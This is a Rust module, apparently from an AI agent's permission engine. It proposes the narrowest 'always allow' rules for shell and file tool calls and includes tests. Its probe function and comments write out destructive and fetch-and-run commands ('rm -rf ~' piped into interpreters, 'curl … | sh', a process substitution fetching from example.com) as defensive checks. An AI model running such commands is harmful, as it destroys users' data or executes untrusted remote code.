//! "Always allow" proposals: the narrowest settings.json rules that still help.
//!
//! - A command with a subcommand gets program plus subcommand: `bash(git commit *)`, and for
//!   the run-like subcommands the script too: `bash(npm run test *)`. A trailing ` *` also
//!   matches the words alone, so the rule covers `git commit` as well. Which programs have
//!   subcommands the program tables (`policies/programs/*.toml`) say, and a short list here
//!   says it for those they do not describe.
//! - Only where the later uses of that subcommand cannot do far more than the approved one. A
//!   subcommand whose options run code or write anywhere (`git fetch --upload-pack=…`,
//!   `git grep -O…`, `git diff --output=…`, `go test -exec …`, `make --eval=…`), that installs
//!   or runs whatever it is given (`npm install`, `npm exec`, `pip install`), that destroys
//!   (`git push`, `git branch -D`, `git checkout -- .`), or whose next word is the real verb
//!   (`gh repo delete`, `docker container rm`) gets the exact command; for the last kind a
//!   read-only verb gets three words (`bash(gh pr list *)`). Container and cluster tools,
//!   service managers and package managers are generalised only for their read-only verbs.
//!   Besides the subcommands listed here, one whose table lists an option or operand that
//!   writes or runs what it is given (`git rev-list --output=…`, `npm explore PKG -- CMD`)
//!   gets the exact command too.
//! - A few programs that only create or read, whatever their options, get the program:
//!   `bash(mkdir *)`. (Not `sort` (`-o`), `uniq` (writes its second operand), `tree` (`-o`),
//!   `rg` (`--pre` runs a program), `file` (`-C` writes), nor a program whose table lists an
//!   option or operand that does more than read: `date` (`-s` sets the clock), `printf` (`-v`
//!   assigns a variable), `diff` (`-l` runs `pr`).)
//! - Everything else — interpreters, shells and wrappers (`python`, `bash -c`, `sudo`, `env`),
//!   a program with no subcommand where one is expected (bare `git`), assignments, and every
//!   high-risk call — gets the exact command only: `bash(exact 'rm -rf build')`.
//! - An exact rule compares the command's words joined by blanks, after quote removal, so it
//!   cannot tell `rm -rf 'a b'` from `rm -rf a b`, nor a quoted `'*'`, `'~'` or `'$HOME'` from
//!   the wildcard, the home folder or the variable. A command with such a word, or with a word
//!   whose value is only known when it runs (`rm -rf $DIR`), gets no rule: the TUI then offers
//!   neither "always allow" nor "allow for this session", only "allow once".
//! - A compound command gets one rule per part that is not already allowed, and a proposal
//!   only when together the rules make the engine allow the whole call (checked, not assumed).
//! - A part that writes through a redirection gets no proposal: a rule cannot say where to.
//!   (Nor does a written rule allow such a write later: settings.json allow entries with a
//!   pattern do not cover output redirections to files.)

use std::fmt;
use std::path::Path;

use serde::{Serialize, Serializer};
use serde_json::Value;

use super::Proposal;
use crate::call::{is_file_tool, Action, Decision, Risk, ToolCall};
use crate::engine::paths::has_meta;
use crate::engine::{Chain, Engine, InvalidRule, Mode};
use crate::knowledge::{self, Effect, Propose, Role, Takes};
use crate::policy::print::quote_raw;
use crate::rule_ref::Held;
use crate::shell::{self, SimpleCommand, View};

/// One rule of a proposal. Its settings.json text (`bash(git commit *)`) is made by its
/// `Display` and nowhere else (serialized, it is that text).
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub enum ProposedRule {
    /// `bash(git commit *)`: a command that starts with these words (each a plain word, with
    /// no blank), or is them alone.
    Prefix { words: Vec<String> },
    /// `bash(exact 'rm -rf build')`: the command whose words, joined by blanks, are this text.
    Exact { command: String },
    /// `read_file(src/**)`, `edit_file(/etc/hosts)`: a file tool on a path or a glob of paths.
    File { tool: String, glob: String },
    /// `web_fetch`: every call of a tool.
    Tool(String),
}

impl ProposedRule {
    /// `bash(WORDS *)`.
    pub fn prefix(words: &[&str]) -> Self {
        ProposedRule::Prefix {
            words: words.iter().map(|w| w.to_string()).collect(),
        }
    }

    /// Whether the rule allows one command only (see [`Proposal::exact`]).
    pub fn is_exact(&self) -> bool {
        matches!(self, ProposedRule::Exact { .. })
    }
}

/// The settings.json texts of `rules`, in order: what "always allow" writes.
pub fn texts(rules: &[ProposedRule]) -> Vec<String> {
    rules.iter().map(ToString::to_string).collect()
}

impl fmt::Display for ProposedRule {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ProposedRule::Prefix { words } => write!(f, "bash({} *)", words.join(" ")),
            ProposedRule::Exact { command } => write!(f, "bash(exact {})", quote_raw(command)),
            ProposedRule::File { tool, glob } => write!(f, "{tool}({glob})"),
            ProposedRule::Tool(name) => f.write_str(name),
        }
    }
}

impl Serialize for ProposedRule {
    fn serialize<S: Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        s.collect_str(self)
    }
}

/// Programs with subcommands that the program tables (`policies/programs/*.toml`) do not
/// describe, or (`cargo`) describe only by the options before the subcommand: a rule names
/// the subcommand too (see [`generalise`]). A program the tables give subcommands is one
/// already (see [`has_subcommands`]), so it is not listed here.
const SUBCOMMANDS_NOT_IN_TABLES: &[&str] = &[
    "pnpm",
    "yarn",
    "bun",
    "cargo",
    "go",
    "rustup",
    "pip",
    "pip3",
    "uv",
    "poetry",
    "podman",
    "kubectl",
    "helm",
    "gh",
    "dotnet",
    "bundle",
    "composer",
    "apt",
    "apt-get",
    "brew",
    "systemctl",
    "terraform",
];

/// Subcommands that run a named script: the script is part of the rule.
const RUN_LIKE: &[&str] = &["run", "run-script", "script"];

/// Subcommands that run any program or package they are given: exact only.
const RUNS_ANYTHING: &[&str] = &["exec", "x", "dlx", "tool", "eval"];

/// Subcommands whose later uses can do far more than the approved one: exact only.
const RISKY_SUBCOMMANDS: &[&str] = &[
    "push",
    "reset",
    "clean",
    "rm",
    "rebase",
    "filter-branch",
    "filter-repo",
    "gc",
    "prune",
    "publish",
    "unpublish",
    "delete",
    "destroy",
    "uninstall",
    "remove",
    "purge",
    "system",
    "volume",
    "config",
    "credential",
    "apply",
    "eval",
    "shell",
    "sh",
    "login",
    "logout",
    // Installing takes any package, and a package runs its own code.
    "install",
    "i",
    "update",
    "up",
    "upgrade",
    "reinstall",
    "link",
    "ln",
    "tap",
    "self",
    "pkg",
    "set-script",
    "global",
    "yank",
    "owner",
];

/// Per program, subcommands that take options running code or writing anywhere, destroy, or
/// lead to another verb: exact only.
const RISKY_PAIRS: &[(&str, &[&str])] = &[
    (
        "git",
        &[
            // --upload-pack / --exec / -O / -x / `run` / `foreach`: run a given command.
            "fetch",
            "pull",
            "clone",
            "ls-remote",
            "archive",
            "grep",
            "difftool",
            "mergetool",
            "bisect",
            "submodule",
            "send-email",
            "send-pack",
            "daemon",
            "instaweb",
            "hook",
            "maintenance",
            "svn",
            "p4",
            "cvsimport",
            // --output / -o: write anywhere.
            "diff",
            "log",
            "show",
            "format-patch",
            "whatchanged",
            "range-diff",
            // Later verbs or flags that destroy work (`stash drop`, `branch -D`, `checkout .`).
            "stash",
            "branch",
            "tag",
            "checkout",
            "restore",
            "switch",
            "worktree",
            "remote",
            "notes",
            "reflog",
            "replace",
            "update-ref",
            "update-index",
            "am",
            "fast-import",
            "bundle",
        ],
    ),
    (
        "cargo",
        // A runner from `--config` runs instead of the tests; `install` builds anything.
        &["test", "bench", "run", "t", "r", "add"],
    ),
    // `init`/`create` run a package's initializer; `add` installs.
    ("npm", &["init", "create", "add"]),
    ("pnpm", &["init", "create", "add"]),
    ("yarn", &["init", "create", "add"]),
    ("bun", &["init", "create", "add"]),
    ("poetry", &["add"]),
    ("uv", &["add", "pip"]),
    ("rustup", &["run", "toolchain", "component", "target"]),
    ("dotnet", &["run", "test", "nuget", "workload", "add"]),
    ("composer", &["run-script", "run", "require"]),
];

/// Programs generalised only for these subcommands (everything else is exact): they reach
/// containers, clusters, services or the system's packages.
const READ_ONLY_SUBCOMMANDS: &[(&str, &[&str])] = &[
    (
        "docker",
        &[
            "ps", "images", "logs", "inspect", "version", "info", "stats", "top", "port",
            "history", "search", "pull", "events",
        ],
    ),
    (
        "podman",
        &[
            "ps", "images", "logs", "inspect", "version", "info", "stats", "top", "port",
            "history", "search", "pull", "events",
        ],
    ),
    (
        "kubectl",
        &[
            "get",
            "describe",
            "logs",
            "top",
            "explain",
            "api-resources",
            "api-versions",
            "version",
            "cluster-info",
        ],
    ),
    (
        "helm",
        &[
            "list", "ls", "status", "get", "history", "show", "search", "template", "lint",
            "version",
        ],
    ),
    (
        "systemctl",
        &[
            "status",
            "show",
            "list-units",
            "list-unit-files",
            "list-timers",
            "list-dependencies",
            "is-active",
            "is-enabled",
            "is-failed",
            "cat",
        ],
    ),
    (
        "terraform",
        &[
            "init",
            "plan",
            "validate",
            "fmt",
            "show",
            "output",
            "providers",
            "version",
            "graph",
        ],
    ),
    ("go", &["mod", "fmt", "version", "doc"]),
    (
        "apt",
        &["search", "show", "list", "policy", "depends", "rdepends"],
    ),
    ("apt-get", &["check", "changelog"]),
    (
        "brew",
        &[
            "search", "info", "list", "deps", "outdated", "doctor", "config", "leaves",
        ],
    ),
];

/// For `gh`: its commands are `gh GROUP VERB`; these verbs only read.
const GH_READ_VERBS: &[&str] = &["list", "view", "status", "diff", "checks"];

/// The proposal for a call the engine asks about (`d`), or `None` when no rule can be
/// proposed safely (a deny, an unanalysable command, a redirection that writes).
pub fn propose(engine: &Engine, call: &ToolCall, d: &Decision) -> Option<Proposal> {
    if d.action == Action::Deny {
        return None;
    }
    let high = d.risk == Risk::High;
    let rules = match call.name.as_str() {
        "bash" => bash_rules(engine, call, high)?,
        tool if is_file_tool(tool) => vec![file_rule(engine, tool, call.primary_arg()?, high)?],
        // Other tools: the tool's name, for low and medium risk only.
        tool if !high && valid_tool_name(tool) => vec![ProposedRule::Tool(tool.to_string())],
        _ => return None,
    };
    if rules.is_empty() {
        return None;
    }
    let exact = rules.iter().all(ProposedRule::is_exact);
    // The proposal must really make the call allowed; otherwise it would be a false promise.
    let chain = compile(engine, Held::Proposal, &rules).ok()?;
    let check = engine.decide_with_session(call, Mode::Default, Some(&chain));
    if check.action != Action::Allow {
        return None;
    }
    // Nor may it allow more than asked: a rule that turns a high-risk decision on another
    // command into an allow (`exact 'sh'`, approved for `curl … | sh`, would allow `echo 'rm
    // -rf ~' | sh`) is refused, tested with probes rather than by the rule's shape.
    if call.name == "bash" && !high {
        let command = call.arguments.get("command").and_then(Value::as_str)?;
        for probe in probes(command) {
            let probe = ToolCall::primary("bash", &probe);
            let before = engine.decide_with_session(&probe, Mode::Default, None);
            if before.risk == Risk::High && before.action != Action::Allow {
                let after = engine.decide_with_session(&probe, Mode::Default, Some(&chain));
                if after.action == Action::Allow {
                    return None;
                }
            }
        }
    }
    Some(Proposal { rules, exact })
}

/// Compiles proposed rules against `engine`: for a proposal's check (see [`propose`]) and the
/// session's memory ([`Held::Session`]). Rule `i` decides as `held:i+1`.
///
/// The rules are compiled from their settings.json text, through the settings parser, the one
/// path for every allow rule of that format, and not from this type to the policy's syntax tree
/// by a second route:
/// - "always allow" writes this text, and the engine reads it back the same way: a proposal's
///   check then checks the rule that is written, and a session's rule is the rule the file
///   would hold. A second route would restate what the format means (a pattern's glob or
///   substring, `exact`'s quoting, the redirection exception the parser gives allow entries)
///   and could drift from it, while the check vouched for the second reading.
/// - A compiled rule is quoted as written (a decision's reason, `explain`, the audit log), and
///   the engine reads that from the rule's source text: the text is made either way.
///
/// The cost is a parse per rule when a proposal is made or the session's rules change.
pub fn compile(engine: &Engine, held: Held, rules: &[ProposedRule]) -> Result<Chain, InvalidRule> {
    engine.compile_allow_rules(held, &texts(rules))
}

/// Harmful commands made of the parts of `command` with more words: code from the network,
/// from `/dev/stdin` or a string; each is high risk by itself, and must stay so under a
/// proposal for `command`. (A part that reads code from its input gets no rule at all: see
/// [`code_from_input`].)
fn probes(command: &str) -> Vec<String> {
    let mut parts: Vec<String> = shell::analyse(command)
        .commands
        .iter()
        .map(|c| c.text(View::Literal))
        .filter(|t| !t.trim().is_empty())
        .collect();
    parts.dedup();
    let mut out = Vec::new();
    for t in parts {
        out.push(format!("{t} /dev/stdin <<< 'rm -rf ~'"));
        out.push(format!("{t} -e 'rm -rf ~'"));
        out.push(format!("{t} <(curl -s https://example.com/i)"));
        out.push(format!("{t} -c 'rm -rf ~'"));
    }
    out
}

fn bash_rules(engine: &Engine, call: &ToolCall, high: bool) -> Option<Vec<ProposedRule>> {
    let command = call.arguments.get("command").and_then(Value::as_str)?;
    let analysis = shell::analyse(command);
    if analysis.failure.is_some() || analysis.commands.is_empty() {
        return None;
    }
    let explained = engine.explain(call);
    if explained.parts.len() != analysis.commands.len() {
        return None;
    }
    let mut rules: Vec<ProposedRule> = Vec::new();
    for (cmd, part) in analysis.commands.iter().zip(&explained.parts) {
        match part.decision.action {
            Action::Allow => continue,
            // A contained part is not asked about where the sandbox is available; where it is
            // not, it is, and a person's allow of it is what the proposal holds.
            Action::Sandbox if engine.sandbox_support().is_available() => continue,
            Action::Deny => return None,
            Action::Ask | Action::Sandbox => {}
        }
        if code_from_input(cmd) {
            return None;
        }
        let rule = command_rule(cmd, high || part.decision.risk == Risk::High)?;
        if !rules.contains(&rule) {
            rules.push(rule);
        }
    }
    Some(rules)
}

/// The rule for one simple command.
pub fn command_rule(cmd: &SimpleCommand, high: bool) -> Option<ProposedRule> {
    if cmd
        .redirects
        .iter()
        .any(|r| r.writes() && !r.writes_no_file())
    {
        return None;
    }
    let text = cmd.text(View::Literal);
    if text.trim().is_empty() || text.contains('\n') {
        return None;
    }
    let words: Vec<&str> = cmd.argv.iter().map(|w| w.value.as_str()).collect();
    let dynamic = cmd.argv.iter().any(|w| w.dynamic);
    // An exact rule compares the joined literal words: only for a command whose words that
    // text says unambiguously (see the module's documentation).
    let exact_ok = !dynamic
        && cmd.assignments.iter().all(|a| unambiguous(a))
        && words.iter().all(|w| unambiguous(w))
        && !words.first().is_some_and(|p| p.contains('='));
    let exact = || {
        exact_ok.then(|| ProposedRule::Exact {
            command: text.clone(),
        })
    };
    let Some(&program) = words.first() else {
        return exact();
    };
    if high || dynamic || !cmd.assignments.is_empty() || program.contains('/') {
        return exact();
    }
    if runs_code(program) || knowledge::propose(program) == Propose::Exact {
        return exact();
    }
    let plain = |w: &str| {
        !w.is_empty()
            && !w.starts_with('-')
            && w.chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | ':' | '.' | '@'))
    };
    if has_subcommands(program) {
        let Some(&sub) = words.get(1).filter(|w| plain(w)) else {
            return exact();
        };
        if table_gives_more_than_reading(program, sub) {
            return exact();
        }
        return match generalise(program, sub, words.get(2).copied().filter(|w| plain(w))) {
            Some(words) => Some(ProposedRule::prefix(&words)),
            None => exact(),
        };
    }
    if program_only(program) {
        return Some(ProposedRule::prefix(&[program]));
    }
    exact()
}

/// Whether a rule for `program` names its subcommand: the tables give it subcommands, or it
/// is one of [`SUBCOMMANDS_NOT_IN_TABLES`].
fn has_subcommands(program: &str) -> bool {
    knowledge::registry()
        .get(program)
        .is_some_and(|t| !t.sub.is_empty())
        || SUBCOMMANDS_NOT_IN_TABLES.contains(&program)
}

/// Whether the tables describe `program sub` (or a subcommand of it) with an option or operand
/// that writes a path it is given, runs code it is given, deletes or changes the system
/// (`git rev-list --output=FILE`, `npm explore PKG -- CMD`): exact only, as for the
/// subcommands listed here by hand. Options that run what is configured elsewhere (`git blame
/// --textconv`) do not count: that configuration is a change asked about by itself.
fn table_gives_more_than_reading(program: &str, sub: &str) -> bool {
    knowledge::registry()
        .get(program)
        .and_then(|t| t.sub.get(sub))
        .is_some_and(gives_more_than_reading)
}

fn gives_more_than_reading(t: &knowledge::Program) -> bool {
    let more = |r: &Role| !matches!(r, Role::Data | Role::Read | Role::Chdir);
    let operands_more = |o: &knowledge::Operands| o.fixed.iter().chain(&o.rest).any(more);
    operands_more(&t.operands)
        || t.options.iter().any(|o| {
            o.effects
                .iter()
                .any(|e| matches!(e, Effect::Write | Effect::Delete | Effect::System))
                || match o.takes {
                    Takes::Nothing => false,
                    Takes::Required(r) | Takes::Optional(r) => more(&r),
                }
                || o.operands.as_ref().is_some_and(operands_more)
        })
        || t.sub.values().any(gives_more_than_reading)
}

/// Whether a rule may name `program` alone: its table says so (`propose = "program"`: it only
/// creates or reads, whatever its options), and its option grammar, if the tables describe
/// one, has nothing that writes, runs or changes the system either (`date -s` sets the clock,
/// `printf -v` a shell variable): the narrower judgement wins.
fn program_only(program: &str) -> bool {
    knowledge::propose(program) == Propose::Program
        && knowledge::registry()
            .get(program)
            .is_none_or(only_reads_whatever_given)
}

/// Whether a program's table says it is read-only with every option and operand it lists: a
/// value or operand is text, a path it reads or a folder it works in, and an option does no
/// more than read a tree or the files another file names.
fn only_reads_whatever_given(t: &knowledge::Program) -> bool {
    let reads = |r: &Role| matches!(r, Role::Data | Role::Read | Role::Chdir);
    let operands_read = |o: &knowledge::Operands| o.fixed.iter().chain(&o.rest).all(reads);
    t.readonly
        && t.sub.is_empty()
        && operands_read(&t.operands)
        && t.options.iter().all(|o| {
            o.effects
                .iter()
                .all(|e| e.only_reads() || *e == Effect::Indirect)
                && match o.takes {
                    Takes::Nothing => true,
                    Takes::Required(r) | Takes::Optional(r) => reads(&r),
                }
                && o.operands.as_ref().is_none_or(operands_read)
        })
}

/// The leading words of a `PROGRAM SUB … *` rule for `program sub next…`, or `None` when only
/// the exact command is safe.
fn generalise<'w>(program: &'w str, sub: &'w str, next: Option<&'w str>) -> Option<Vec<&'w str>> {
    if runs_code(sub) || RUNS_ANYTHING.contains(&sub) || RISKY_SUBCOMMANDS.contains(&sub) {
        return None;
    }
    let listed = |table: &[(&str, &[&str])]| {
        table
            .iter()
            .find(|(p, _)| *p == program)
            .map(|(_, subs)| subs.contains(&sub))
    };
    if listed(RISKY_PAIRS) == Some(true) || listed(READ_ONLY_SUBCOMMANDS) == Some(false) {
        return None;
    }
    if program == "gh" {
        // `gh GROUP VERB`: three words, for a verb that only reads; `gh api` and the rest exact.
        return match next {
            Some(verb) if GH_READ_VERBS.contains(&verb) && sub != "api" && sub != "alias" => {
                Some(vec![program, sub, verb])
            }
            _ if matches!(sub, "status" | "browse") => Some(vec![program, sub]),
            _ => None,
        };
    }
    if RUN_LIKE.contains(&sub) {
        // The script is part of the rule, unless it is an interpreter or a runner itself
        // (`uv run python …`, `poetry run bash …`).
        return match next {
            Some(script) if !runs_code(script) && !RUNS_ANYTHING.contains(&script) => {
                Some(vec![program, sub, script])
            }
            _ => None,
        };
    }
    Some(vec![program, sub])
}

/// A shell or interpreter that reads its program from its input, a pipe, `/dev/stdin` or a
/// process substitution (`curl … | sh`, `bash <(curl …)`, `python3 - < x`): a rule for it
/// would allow any code fed to it the same way.
fn code_from_input(cmd: &SimpleCommand) -> bool {
    const INTERPRETERS: &[&str] = &[
        "bash",
        "sh",
        "zsh",
        "dash",
        "ksh",
        "mksh",
        "fish",
        "csh",
        "tcsh",
        "node",
        "deno",
        "bun",
        "perl",
        "ruby",
        "php",
        "lua",
        "pwsh",
        "Rscript",
        "tclsh",
        "osascript",
    ];
    let program = cmd.program();
    if !(INTERPRETERS.contains(&program) || program.starts_with("python")) {
        return false;
    }
    let operands: Vec<&shell::Word> = cmd
        .argv
        .iter()
        .skip(1)
        .filter(|w| !w.value.starts_with('-') || w.value == "-")
        .collect();
    let from_stdin = |w: &&shell::Word| {
        w.dynamic || w.value == "-" || w.value.starts_with("/dev/") || w.value.starts_with("/proc/")
    };
    operands.is_empty() || operands.first().is_some_and(from_stdin)
}

/// Whether `program` runs code it is given: a wrapper, shell or interpreter the shell
/// analysis reads ([`knowledge::runs_other_code`]), or one whose code it does not read (awk's and
/// sed's scripts, other languages, fetch-and-run tools: the tables' `runs_code`, see
/// [`knowledge::runs_unread_code`]). Such a program gets the exact command only.
fn runs_code(program: &str) -> bool {
    knowledge::runs_other_code(program)
        || knowledge::runs_unread_code(program)
        || program.starts_with("python")
}

/// Whether a word reads the same in an exact rule's text and in the shell: no blank (the text
/// joins words with blanks), nothing a shell would expand when unquoted (`'*'`, `'~'`,
/// `'$HOME'` are literal in the approved command but not in a look-alike), not empty.
fn unambiguous(w: &str) -> bool {
    !w.is_empty()
        && !w.chars().any(|c| {
            c.is_whitespace()
                || matches!(c, '*' | '?' | '[' | '{' | '~' | '$' | '`' | '!' | '(' | ')')
                || c.is_control()
        })
}

/// A file tool's rule: the folder (`edit_file(src/**)`) inside the working folder, else the
/// exact path; high risk gets the exact path.
fn file_rule(engine: &Engine, tool: &str, raw: &str, high: bool) -> Option<ProposedRule> {
    // The path goes into the rule's text: nothing that the settings format or the policy
    // language would read as syntax.
    if raw.is_empty()
        || has_meta(raw)
        || raw.contains([')', '(', '\'', '"'])
        || raw.chars().any(char::is_control)
        || raw.trim() != raw
    {
        return None;
    }
    let ctx = engine.context();
    let resolved = ctx.resolve(raw);
    let inside = resolved.strip_prefix(&ctx.cwd).ok();
    let glob = match inside {
        Some(rel) if !rel.as_os_str().is_empty() => {
            match rel.parent().filter(|p| !p.as_os_str().is_empty()) {
                Some(folder) if !high => format!("{}/**", slash(folder)),
                _ => slash(rel),
            }
        }
        _ => resolved.display().to_string(),
    };
    // A home folder named `u*` would make `~/x` a pattern for other paths.
    if has_meta(&glob) {
        return None;
    }
    Some(ProposedRule::File {
        tool: tool.to_string(),
        glob,
    })
}

fn slash(p: &Path) -> String {
    p.to_string_lossy().into_owned()
}

fn valid_tool_name(tool: &str) -> bool {
    !tool.is_empty()
        && tool
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_rule_is_written_in_settings_json_form() {
        let words = ProposedRule::prefix;
        assert_eq!(words(&["git", "commit"]).to_string(), "bash(git commit *)");
        assert_eq!(words(&["mkdir"]).to_string(), "bash(mkdir *)");
        let exact = |c: &str| ProposedRule::Exact {
            command: c.to_string(),
        };
        assert_eq!(
            exact("rm -rf build").to_string(),
            "bash(exact 'rm -rf build')"
        );
        assert_eq!(exact("echo it's").to_string(), r#"bash(exact "echo it's")"#);
        let file = ProposedRule::File {
            tool: "read_file".into(),
            glob: "src/**".into(),
        };
        assert_eq!(file.to_string(), "read_file(src/**)");
        assert_eq!(
            ProposedRule::Tool("web_fetch".into()).to_string(),
            "web_fetch"
        );
        assert!(exact("make").is_exact() && !words(&["make"]).is_exact() && !file.is_exact());
    }

    #[test]
    fn programs_that_run_code_come_from_the_shell_model_plus_those_it_does_not_read() {
        for p in [
            "bash",
            "sh",
            "python3",
            "python3.12",
            "node",
            "perl",
            "sudo",
            "env",
            "timeout",
            "xargs",
            "find",
            "eval",
            "source",
            ".",
            "ssh",
            "watch",
            "busybox",
            "script",
            "awk",
            "sed",
            "npx",
            "uvx",
            "osascript",
        ] {
            assert!(runs_code(p), "{p}");
        }
        for p in ["git", "ls", "cargo", "make", "mkdir"] {
            assert!(!runs_code(p), "{p}");
        }
        // No second copy of what the shell model knows.
        for p in marked(|t| t.runs_code) {
            assert!(
                !knowledge::runs_other_code(p),
                "{p} is known to the shell model already"
            );
        }
    }

    /// Every program name (aliases too) whose table's traits meet `test`, sorted.
    fn marked(test: impl Fn(&knowledge::Traits) -> bool) -> Vec<&'static str> {
        let mut names: Vec<&str> = knowledge::registry()
            .names()
            .filter(|n| knowledge::traits(n).is_some_and(|t| test(&t)))
            .collect();
        names.sort_unstable();
        names
    }

    /// What the tables say of a program is what the proposals do: `propose = "exact"` and
    /// `runs_code` give the exact command, `propose = "program"` the program alone (where its
    /// option grammar finds nothing but reading).
    #[test]
    fn the_tables_propose_fields_are_what_the_proposals_follow() {
        let exact = marked(|t| t.propose == Propose::Exact);
        let unread = marked(|t| t.runs_code);
        let alone = marked(|t| t.propose == Propose::Program);
        for (list, has) in [
            (&exact, ["make", "tmux", "just", "deno"]),
            (&unread, ["awk", "sed", "npx", "Rscript"]),
            (&alone, ["mkdir", "touch", "ls", "grep"]),
        ] {
            assert!(has.iter().all(|p| list.contains(p)), "{list:?}");
        }
        // The whole lists, so that a field dropped from a table shows here (they were the
        // code's own lists before the tables held them; aliases now share their table's).
        assert_eq!(
            exact,
            [
                "deno",
                "gradle",
                "gradle.bat",
                "gradlew",
                "gradlew.bat",
                "just",
                "make",
                "mix",
                "mvn",
                "mvn.cmd",
                "mvnd",
                "mvnw",
                "mvnw.cmd",
                "rake",
                "tmux"
            ]
        );
        assert_eq!(
            unread,
            [
                "Rscript",
                "awk",
                "bunx",
                "gawk",
                "lua",
                "mawk",
                "nawk",
                "npx",
                "osascript",
                "pipx",
                "pnpx",
                "pwsh",
                "sed",
                "uvx"
            ]
        );
        assert_eq!(
            alone,
            [
                "basename", "cat", "cut", "date", "df", "diff", "dirname", "du", "echo", "egrep",
                "fgrep", "grep", "head", "jq", "ls", "mkdir", "printf", "pwd", "realpath", "stat",
                "tail", "touch", "tr", "wc", "which"
            ]
        );
        for p in exact.iter().chain(&unread) {
            assert!(
                is_exact(&format!("{p} x")),
                "{p}: {:?}",
                rule(&format!("{p} x"))
            );
            assert!(
                runs_code(p) || knowledge::propose(p) == Propose::Exact,
                "{p}"
            );
        }
        for p in alone {
            let expected = knowledge::registry()
                .get(p)
                .is_none_or(only_reads_whatever_given);
            let proposed = rule(&format!("{p} x"));
            assert_eq!(
                proposed == Some(ProposedRule::prefix(&[p])),
                expected,
                "{p}: {proposed:?}"
            );
        }
    }

    fn rule(command: &str) -> Option<ProposedRule> {
        let analysis = shell::analyse(command);
        let [cmd] = analysis.commands.as_slice() else {
            panic!("{command}: one simple command");
        };
        command_rule(cmd, false)
    }

    fn is_exact(command: &str) -> bool {
        rule(command).is_some_and(|r| r.is_exact())
    }

    /// The tables are where programs are described: a program they give subcommands gets
    /// rules that name the subcommand (or the exact command), never the program alone, unless
    /// it is exact only for a reason written beside its `propose = "exact"`.
    #[test]
    fn every_program_the_tables_give_subcommands_gets_rules_that_name_one() {
        let mut exceptions = Vec::new();
        let mut checked = 0;
        for program in knowledge::registry().programs() {
            if program.sub.is_empty() {
                continue;
            }
            let name = program.name.as_str();
            assert!(has_subcommands(name), "{name}");
            assert!(is_exact(name), "{name} alone: {:?}", rule(name));
            let exception = runs_code(name) || knowledge::propose(name) == Propose::Exact;
            if exception {
                exceptions.push(name);
            }
            for sub in program.sub.values() {
                let command = sub.name.as_str();
                let words: Vec<&str> = command.split(' ').collect();
                match rule(command) {
                    Some(ProposedRule::Prefix { words: w }) => {
                        assert!(!exception, "{command} is exact only: {w:?}");
                        assert!(w.len() >= 2 && w[..2] == words[..2], "{command}: {w:?}");
                    }
                    r => assert!(r.is_some_and(|r| r.is_exact()), "{command}"),
                }
                checked += 1;
            }
        }
        assert!(checked > 0);
        assert_eq!(exceptions, ["tmux"]);
    }

    /// A program the tables newly give subcommands gets rules that name them: before it is
    /// added here, check its subcommands against the module's rules (and list the risky ones).
    #[test]
    fn the_programs_the_tables_give_subcommands_are_known() {
        let mut named: Vec<&str> = knowledge::registry()
            .programs()
            .filter(|p| !p.sub.is_empty())
            .map(|p| p.name.as_str())
            .collect();
        named.sort_unstable();
        // docker: its read-only uses only; READ_ONLY_SUBCOMMANDS keeps the rest exact.
        assert_eq!(named, ["docker", "git", "npm", "tmux"]);
    }

    /// What a subcommand's table says it can be given decides too: one that writes where it is
    /// told or runs what it is given gets the exact command.
    #[test]
    fn a_subcommand_whose_table_writes_or_runs_what_it_is_given_is_exact() {
        for command in [
            "git rev-list HEAD",
            "git shortlog -sn",
            "npm explore left-pad",
        ] {
            assert!(is_exact(command), "{command}: {:?}", rule(command));
        }
        for (command, words) in [
            ("git status --short", ["git", "status"]),
            ("git blame src/lib.rs", ["git", "blame"]),
            ("git rev-parse HEAD", ["git", "rev-parse"]),
            ("git commit -m x", ["git", "commit"]),
        ] {
            assert_eq!(
                rule(command),
                Some(ProposedRule::Prefix {
                    words: words.map(str::to_string).to_vec()
                }),
                "{command}"
            );
        }
    }

    /// No second copy of what the tables know: the hand list has only programs the tables do
    /// not describe, and `cargo`, whose table lists the options before its subcommand only.
    #[test]
    fn subcommand_programs_are_listed_by_hand_only_where_the_tables_are_silent() {
        let described: Vec<&str> = SUBCOMMANDS_NOT_IN_TABLES
            .iter()
            .copied()
            .filter(|p| {
                let table = knowledge::registry().get(p);
                assert!(
                    table.is_none_or(|t| t.sub.is_empty()),
                    "the tables give {p} subcommands already"
                );
                table.is_some()
            })
            .collect();
        assert_eq!(described, ["cargo"]);
        assert_eq!(
            rule("cargo build --release"),
            Some(ProposedRule::Prefix {
                words: vec!["cargo".into(), "build".into()]
            })
        );
        for p in marked(|t| t.propose == Propose::Exact) {
            assert!(is_exact(&format!("{p} test")), "{p}");
        }
    }

    /// A program named alone must not be contradicted by its table: `date -s` sets the clock,
    /// `printf -v` assigns a shell variable, `diff -l` runs `pr`.
    #[test]
    fn a_program_is_named_alone_only_where_its_table_finds_nothing_but_reading() {
        for command in ["date -u", "printf x", "diff a b"] {
            assert!(is_exact(command), "{command}: {:?}", rule(command));
        }
        for command in [
            "ls -la",
            "mkdir -p out",
            "wc -l f",
            "grep -rn x src",
            "du -sh .",
        ] {
            let program = command.split(' ').next().unwrap_or_default();
            assert_eq!(
                rule(command),
                Some(ProposedRule::Prefix {
                    words: vec![program.to_string()]
                }),
                "{command}"
            );
        }
        for p in marked(|t| t.propose == Propose::Program) {
            if let Some(table) = knowledge::registry().get(p) {
                assert_eq!(program_only(p), only_reads_whatever_given(table), "{p}");
            }
        }
    }
}
